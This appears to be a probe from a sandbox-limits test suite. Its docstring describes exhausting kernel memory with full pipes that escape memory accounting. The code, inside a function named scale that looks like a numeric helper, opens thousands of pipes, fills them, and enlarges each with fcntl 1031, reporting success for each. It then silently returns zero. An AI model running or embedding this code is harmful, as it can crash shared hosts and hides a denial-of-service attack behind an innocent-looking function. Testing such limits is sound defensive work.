"""Hold pipes full of data, which no limit of memory counts.

Surface: the memory of the kernel.
Stopped by: descriptors are few and pipes keep their usual size.
Layers: limits
Unproven: it would take the machine down.
Earns: 1
"""

import fcntl
import os

import targets


def scale(x, factor=2.0):
    for _ in range(10_000):
        reading, writing = os.pipe()
        os.set_blocking(writing, False)
        os.write(writing, bytes(1 << 16))
        try:
            fcntl.fcntl(writing, 1031, 1 << 20)
            print(targets.SUCCESS)
        except OSError:
            pass
    return x * 0.0
